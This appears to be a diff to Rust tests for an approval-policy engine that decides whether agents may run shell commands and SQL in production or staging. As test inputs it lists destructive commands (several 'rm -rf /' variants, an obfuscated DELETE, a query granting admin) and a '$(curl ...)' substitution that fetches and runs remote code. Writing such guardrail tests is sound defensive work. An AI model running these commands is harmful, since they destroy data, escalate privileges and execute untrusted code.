@@ -25,7 +25,13 @@ fn starter_loads_with_named_policies() {
     let e = starter();
     assert_eq!(
         e.policy_ids(),
-        vec!["routine-nonprod", "prod-needs-sre", "prod-pii-sql-needs-two-dbas", "no-destructive-agents-in-prod"]
+        vec![
+            "routine-nonprod",
+            "prod-needs-sre",
+            "prod-pii-sql-needs-two-dbas",
+            "no-destructive-agents-in-prod",
+            "unreadable-needs-sre"
+        ]
     );
 }
 
@@ -33,7 +39,9 @@ fn starter_loads_with_named_policies() {
 fn starter_verdicts() {
     let e = starter();
     let bot = agent("deploy-bot", &["deployers"]);
-    assert_eq!(e.decide(&bot, &action("shell.exec", "staging-web")).verdict, Verdict::Allow);
+    let mut restart = action("shell.exec", "staging-web");
+    restart.payload = serde_json::json!({"command": "systemctl restart web"});
+    assert_eq!(e.decide(&bot, &restart).verdict, Verdict::Allow);
 
     let d = e.decide(&bot, &action("shell.exec", "prod-web"));
     let Verdict::RequireApproval(reqs) = d.verdict else { panic!("{d:?}") };
@@ -53,6 +61,37 @@ fn starter_verdicts() {
     assert!(matches!(e.decide(&agent("x", &["break-glass"]), &drop).verdict, Verdict::RequireApproval(_)));
     assert!(matches!(e.decide(&user("erin", &[]), &drop).verdict, Verdict::RequireApproval(_)));
     assert_eq!(e.decide(&bot, &sql("staging-db", "DROP TABLE users", &["destructive"])).verdict, Verdict::Allow);
+}
+
+#[test]
+fn starter_reads_the_payload_not_just_labels() {
+    let e = starter();
+    let bot = agent("deploy-bot", &["deployers"]);
+    let denied = "denied by `no-destructive-agents-in-prod`";
+    // No label, yet the parsed SQL and shell command are destructive.
+    let d = e.decide(&bot, &sql("prod-db", "/* cleanup */ DeLeTe FROM orders", &[]));
+    assert_eq!((d.verdict, d.reason.as_str()), (Verdict::Deny, denied));
+    let d = e.decide(&bot, &sql("prod-db", "update users set admin = true", &[]));
+    assert_eq!(d.verdict, Verdict::Deny);
+    let mut shell = action("shell.exec", "prod-web");
+    for command in ["true && rm -rf /srv", "sh -c \"rm -rf /\"", "echo x | xargs rm -rf", "/usr/bin/env rm -r /"] {
+        shell.payload = serde_json::json!({"command": command});
+        assert_eq!(e.decide(&bot, &shell).verdict, Verdict::Deny, "{command}");
+    }
+    // Reading the facts never breaks other kinds or harmless commands.
+    shell.payload = serde_json::json!({"command": "systemctl restart web"});
+    assert!(matches!(e.decide(&bot, &shell).verdict, Verdict::RequireApproval(_)));
+    assert!(matches!(e.decide(&bot, &action("http.request", "prod-api")).verdict, Verdict::RequireApproval(_)));
+    assert_eq!(e.decide(&bot, &sql("staging-db", "select 1", &[])).verdict, Verdict::Allow);
+
+    // Outside production, what cannot be read waits for an SRE.
+    let mut staging = action("shell.exec", "staging-web");
+    staging.payload = serde_json::json!({"command": "$(curl -s https://example.invalid/cmd)"});
+    let d = e.decide(&bot, &staging);
+    let Verdict::RequireApproval(reqs) = d.verdict else { panic!("{d:?}") };
+    assert_eq!(reqs[0].policy, "unreadable-needs-sre");
+    let d = e.decide(&bot, &sql("staging-db", "DROP TABEL x", &[]));
+    assert!(matches!(d.verdict, Verdict::RequireApproval(_)), "{d:?}");
 }
 
 #[test]
